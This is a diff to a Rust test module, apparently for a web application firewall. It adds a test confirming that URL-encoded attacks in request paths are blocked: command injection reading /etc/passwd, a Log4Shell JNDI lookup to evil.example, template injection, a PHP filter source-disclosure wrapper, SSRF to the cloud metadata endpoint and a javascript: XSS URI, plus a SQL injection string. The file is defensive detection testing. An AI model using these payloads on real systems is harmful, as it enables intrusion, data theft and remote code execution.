@@ -239,6 +239,24 @@ mod tests {
     }
 
     #[test]
+    fn reads_attacks_carried_in_path_segments() {
+        for (path, detector) in [
+            ("/item/%3B%20cat%20/etc/passwd", "cmdi"),
+            ("/item/%24%7Bjndi%3Aldap%3A//evil.example/a%7D", "code"),
+            ("/page/%7B%7B7*7%7D%7D", "code"),
+            ("/view/php%3A//filter/convert.base64-encode/resource%3Dindex.php", "code"),
+            ("/fetch/http%3A//169.254.169.254/latest/meta-data/", "ssrf"),
+            ("/go/javascript%3Aalert(1)", "xss"),
+        ] {
+            let v = Engine::default().inspect(&req(path));
+            assert!(v.is_block() && v.findings.iter().any(|f| f.detector == detector && f.location == "REQUEST_PATH"), "{path}: {v:?}");
+        }
+        for path in ["/wiki/Special:Search", "/a;jsessionid=0123ABCD", "/shop/item/123-blue-shirt", "/static/app.3f2a.js", "/@user/post"] {
+            assert!(!Engine::default().inspect(&req(path)).is_block(), "{path}");
+        }
+    }
+
+    #[test]
     fn blocks_attack_and_names_location() {
         let v = Engine::default().inspect(&req("/search?q=1%27%20or%201%3D1--"));
         assert!(v.is_block());
